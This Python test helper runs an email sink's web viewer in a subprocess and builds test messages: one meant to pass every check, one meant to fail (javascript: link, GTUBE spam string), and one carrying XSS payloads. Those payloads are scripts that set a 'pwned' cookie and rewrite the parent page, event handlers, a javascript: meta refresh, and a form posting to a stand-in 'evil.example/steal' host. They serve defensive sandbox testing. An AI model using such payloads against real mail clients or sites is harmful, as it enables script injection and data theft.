"""A real `digest sink --web` in a subprocess, and messages built to pass or fail each check."""

from __future__ import annotations

import signal
import smtplib
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path
from typing import Any

import httpx

from digest.sink.server import free_port

GTUBE = "XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"


@dataclass
class WebSink:
    smtp_port: int
    web_port: int
    maildir: Path
    process: subprocess.Popen[bytes]
    log: Path

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.web_port}"

    @property
    def origin(self) -> dict[str, str]:
        """The Origin header a browser sends on a form post from the app's own page."""
        return {"Origin": self.url}

    def send(self, message: EmailMessage) -> None:
        with smtplib.SMTP("127.0.0.1", self.smtp_port, timeout=10) as smtp:
            smtp.send_message(message)

    def messages(self) -> list[dict[str, Any]]:
        answer = httpx.get(f"{self.url}/api/messages", timeout=10)
        answer.raise_for_status()
        listed: list[dict[str, Any]] = answer.json()["messages"]
        return listed

    def key_of(self, subject: str) -> str:
        """The Maildir key of the message with this subject (waits for it to be listed)."""
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            for m in self.messages():
                if m["subject"] == subject:
                    return str(m["key"])
            time.sleep(0.05)
        raise AssertionError(f"no message {subject!r} in the sink")

    def stop(self) -> int:
        """Ctrl-C, as a person would; returns the exit code."""
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGINT)
            try:
                self.process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
                raise AssertionError("digest sink --web ignored Ctrl-C for 15 s") from None
        return int(self.process.returncode)


@contextmanager
def running_web_sink(folder: Path) -> Iterator[WebSink]:
    """`python -m digest sink --web` on free ports, ready to answer."""
    smtp_port = free_port()
    web_port = free_port()
    while web_port == smtp_port:
        web_port = free_port()
    maildir = folder / "maildir"
    log = folder / "sink.log"
    with log.open("wb") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "digest", "sink", "--web", "--port", str(smtp_port),
             "--web-port", str(web_port), "--maildir", str(maildir)],
            stdout=out, stderr=subprocess.STDOUT, cwd=folder,
        )
    sink = WebSink(smtp_port, web_port, maildir, process, log)
    try:
        deadline = time.monotonic() + 20
        while True:
            if process.poll() is not None:
                raise AssertionError(f"digest sink --web exited: {log.read_text()}")
            try:
                if httpx.get(sink.url + "/", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            if time.monotonic() > deadline:
                raise AssertionError(f"digest sink --web never answered: {log.read_text()}")
            time.sleep(0.1)
        yield sink
    finally:
        if process.poll() is None:
            sink.stop()


def _message(subject: str, to: str, html: str | None, text: str | None,
             headers: dict[str, str]) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "Daily <daily@example.com>"
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime.now(UTC))
    msg["Message-ID"] = make_msgid(domain="example.com")
    for name, value in headers.items():
        msg[name] = value
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
    return msg


GOOD_HEADERS = {
    "List-Unsubscribe": "<https://news.example.com/unsubscribe?t=abc>, "
                        "<mailto:leave@example.com?subject=unsubscribe>",
    "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
}


def newsletter(subject: str = "Daily: the news", to: str = "reader@example.com",
               extra_html: str = "") -> EmailMessage:
    """A small edition that passes every check."""
    html = f"""<!doctype html><html><head><title>{subject}</title>
<style>h2 {{ font-family: Georgia, serif; }}</style></head><body>
<h1>Daily</h1>
<h2><a href="https://news.example.com/alpha">Alpha council approves the new bridge</a></h2>
<img src="https://img.example.com/alpha.jpg" width="536" height="300" alt="The bridge">
<p>The council voted on Tuesday to build a bridge over the river.</p>
<h2><a href="https://news.example.com/beta">Beta team wins the regional cup</a></h2>
<p>A late goal settled it.</p>{extra_html}
<p><a href="https://news.example.com/unsubscribe?t=abc">Unsubscribe</a></p>
</body></html>"""
    text = """Daily

Alpha council approves the new bridge
https://news.example.com/alpha
The council voted on Tuesday to build a bridge over the river.

Beta team wins the regional cup
https://news.example.com/beta
A late goal settled it.

Unsubscribe: https://news.example.com/unsubscribe?t=abc
"""
    return _message(subject, to, html, text, GOOD_HEADERS)


def failing(subject: str = "Built to fail every check") -> EmailMessage:
    """A message that fails each check: too big, bad unsubscribe headers, relative and
    javascript: links, an image with neither size nor alt, a text part short of a story, and
    GTUBE for SpamAssassin."""
    filler = "<p>" + ("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 2000) + "</p>"
    html = f"""<html><body>
<h2><a href="/stories/alpha">Alpha council approves the new bridge</a></h2>
<img src="https://img.example.com/alpha.jpg">
<h2><a href="https://news.example.com/beta">Beta team wins the regional cup</a></h2>
<p><a href="javascript:alert(1)">Click</a></p>{filler}
</body></html>"""
    text = f"Alpha council approves the new bridge\n/stories/alpha\n\n{GTUBE}\n"
    return _message(subject, "reader@example.com", html, text, {
        "List-Unsubscribe": "http://news.example.com/unsubscribe?t=abc",
    })


def scripted(subject: str = "A message with scripts in it") -> EmailMessage:
    """HTML that would change the parent page, set cookies and replace its own body if any of
    its scripts or event handlers ran."""
    html = """<html><head>
<script>document.cookie = "pwned=1; path=/"; try { parent.document.title = "PWNED"; } catch (e) {}
document.title = "PWNED"; document.body && (document.body.innerHTML = "SCRIPT RAN");</script>
<meta http-equiv="refresh" content="0; url=javascript:parent.document.title='PWNED'">
</head><body onload="document.body.innerHTML = 'SCRIPT RAN'; parent.document.title = 'PWNED'">
<h2><a href="https://news.example.com/alpha">Alpha council approves the new bridge</a></h2>
<img src="data:," width="1" height="1" alt="" onerror="parent.document.title = 'PWNED'">
<form action="https://evil.example/steal" method="post"><input name="q"><button>Go</button></form>
<p id="marker">The body as sent.</p>
<script>document.getElementById("marker").textContent = "SCRIPT RAN";</script>
</body></html>"""
    text = "Alpha council approves the new bridge\nhttps://news.example.com/alpha\n"
    return _message(subject, "reader@example.com", html, text, GOOD_HEADERS)
